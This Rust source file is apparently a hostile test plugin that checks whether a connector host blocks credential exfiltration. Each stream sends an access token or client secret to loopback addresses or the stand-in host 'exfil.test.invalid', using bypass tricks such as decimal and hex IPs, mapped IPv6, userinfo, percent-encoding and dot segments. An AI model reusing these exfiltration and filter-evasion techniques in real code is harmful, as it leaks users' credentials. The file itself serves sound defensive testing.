//! `test-exfiltrate`: a hostile connector that tries to send the secrets the host holds
//! to a listener of its choosing. Each `sync` stream is one attempt; the cursor carries
//! the listener's port. The host must refuse every attempt with `denied` (propagated
//! as `invalid-data("denied: ...")`); should one get through, `sync` returns one record
//! `sent` with the status it saw.
//!
//! Its manifest declares IP literals (`127.0.0.1`, `127.0.0.2`, `0.0.0.0`, `[::1]`,
//! `[::ffff:127.0.0.1]`) and `localhost`, so the host refuses to load it unless the
//! operator allows IP literals; the tests allow them (and ports) to prove that the
//! request-time rules hold on their own.
//!
//! | stream | credential | URL |
//! |---|---|---|
//! | `bearer-http-127.0.0.1` | access token | `http://127.0.0.1:{port}/steal` |
//! | `bearer-http-127.0.0.2` | access token | `http://127.0.0.2:{port}/steal` |
//! | `bearer-http-0.0.0.0` | access token | `http://0.0.0.0:{port}/steal` |
//! | `bearer-http-decimal` | access token | `http://2130706433:{port}/steal` |
//! | `bearer-http-localhost` | access token | `http://localhost:{port}/steal` |
//! | `bearer-http-ipv6` | access token | `http://[::1]:{port}/steal` |
//! | `bearer-https-127.0.0.1` | access token | `https://127.0.0.1:{port}/steal` |
//! | `bearer-https-hex` | access token | `https://0x7f000001:{port}/steal` |
//! | `bearer-https-mapped` | access token | `https://[::ffff:127.0.0.1]:{port}/steal` |
//! | `bearer-https-localhost` | access token | `https://localhost:{port}/steal` (resolved) |
//! | `plain-https-localhost` | none | `https://localhost:{port}/steal` (resolved) |
//! | `bearer-userinfo` | access token | `http://mooring:pw@exfil.test.invalid/steal` |
//! | `basic-http-127.0.0.1` | client id + secret | `http://127.0.0.1:{port}/steal` |
//! | `basic-https-localhost` | client id + secret | `https://localhost:{port}/steal` |
//! | `basic-token-case` | client id + secret | `HTTPS://EXFIL.TEST.INVALID:443//oauth//token/` |
//! | `basic-token-encoded` | client id + secret | `https://exfil.test.invalid/oauth/%74oken` |
//! | `basic-token-dots` | client id + secret | `https://exfil.test.invalid/api/../oauth/./token;x=1` |
//! | `basic-revoke` | client id + secret | `https://exfil.test.invalid/oauth/revoke/` |
//! | `bearer-remapped` | access token | `https://exfil.test.invalid/api/steal` (allowed when the operator remaps the host) |
//! | `basic-remapped` | client id + secret | `https://exfil.test.invalid/api/introspect` (allowed when remapped) |

use mooring_plugin_sdk::prelude::*;

const HOST: &str = "exfil.test.invalid";

struct Exfiltrate;

/// The credential and URL of attempt `stream` against the listener on `port`.
fn attempt(stream: &str, port: &str) -> Option<(Credential, String)> {
    use Credential::{AccessToken as Bearer, ClientBasic as Basic, None as Plain};
    let (credential, url) = match stream {
        "bearer-http-127.0.0.1" => (Bearer, format!("http://127.0.0.1:{port}/steal")),
        "bearer-http-127.0.0.2" => (Bearer, format!("http://127.0.0.2:{port}/steal")),
        "bearer-http-0.0.0.0" => (Bearer, format!("http://0.0.0.0:{port}/steal")),
        "bearer-http-decimal" => (Bearer, format!("http://2130706433:{port}/steal")),
        "bearer-http-localhost" => (Bearer, format!("http://localhost:{port}/steal")),
        "bearer-http-ipv6" => (Bearer, format!("http://[::1]:{port}/steal")),
        "bearer-https-127.0.0.1" => (Bearer, format!("https://127.0.0.1:{port}/steal")),
        "bearer-https-hex" => (Bearer, format!("https://0x7f000001:{port}/steal")),
        "bearer-https-mapped" => (Bearer, format!("https://[::ffff:127.0.0.1]:{port}/steal")),
        "bearer-https-localhost" => (Bearer, format!("https://localhost:{port}/steal")),
        "plain-https-localhost" => (Plain, format!("https://localhost:{port}/steal")),
        "bearer-userinfo" => (Bearer, format!("http://mooring:pw@{HOST}/steal")),
        "basic-http-127.0.0.1" => (Basic, format!("http://127.0.0.1:{port}/steal")),
        "basic-https-localhost" => (Basic, format!("https://localhost:{port}/steal")),
        "basic-token-case" => (
            Basic,
            "HTTPS://EXFIL.TEST.INVALID:443//oauth//token/".into(),
        ),
        "basic-token-encoded" => (Basic, format!("https://{HOST}/oauth/%74oken")),
        "basic-token-dots" => (Basic, format!("https://{HOST}/api/../oauth/./token;x=1")),
        "basic-revoke" => (Basic, format!("https://{HOST}/oauth/revoke/")),
        "bearer-remapped" => (Bearer, format!("https://{HOST}/api/steal")),
        "basic-remapped" => (Basic, format!("https://{HOST}/api/introspect")),
        _ => return None,
    };
    Some((credential, url))
}

impl Guest for Exfiltrate {
    fn describe() -> Manifest {
        let auth = AuthConfig {
            revoke_url: Some(format!("https://{HOST}/oauth/revoke")),
            ..AuthConfig::new(
                format!("https://{HOST}/oauth/authorize"),
                format!("https://{HOST}/oauth/token"),
            )
        };
        Manifest::new(
            env!("CARGO_PKG_NAME"),
            "Test: exfiltrate",
            env!("CARGO_PKG_VERSION"),
            auth,
        )
        .allowed_hosts(&[
            HOST,
            "localhost",
            "127.0.0.1",
            "127.0.0.2",
            "0.0.0.0",
            "[::1]",
            "[::ffff:127.0.0.1]",
        ])
        .stream(StreamInfo::new("steal", "id"))
    }

    fn authorize_params(_scopes: Vec<String>) -> Fields {
        Vec::new()
    }

    fn complete_authorization(_params: Fields) -> Result<Vec<Tenant>, ConnectorError> {
        Ok(vec![Tenant::new("t-1", "Test Org")])
    }

    fn refresh() -> Result<TokenInfo, ConnectorError> {
        Ok(oauth::refresh(&[])?)
    }

    fn sync(
        stream: String,
        _tenant: Tenant,
        cursor: Option<String>,
    ) -> Result<Batch, ConnectorError> {
        let port = cursor.unwrap_or_default();
        let (credential, url) = attempt(&stream, &port)
            .ok_or_else(|| ConnectorError::InvalidData(format!("unknown attempt `{stream}`")))?;
        let response = Request::get(url)
            .header("x-attempt", &stream)
            .credential(credential)
            .send()?;
        // Only reached if the host let the request through.
        let record = SyncRecord::new("sent", format!(r#"{{"status":{}}}"#, response.status()));
        Ok(Batch::new(vec![record], None, false))
    }

    fn disconnect(_tenant: Tenant) -> Result<(), ConnectorError> {
        Ok(oauth::revoke(RevokeFormat::Form)?)
    }
}

mooring_plugin_sdk::export_connector!(Exfiltrate);
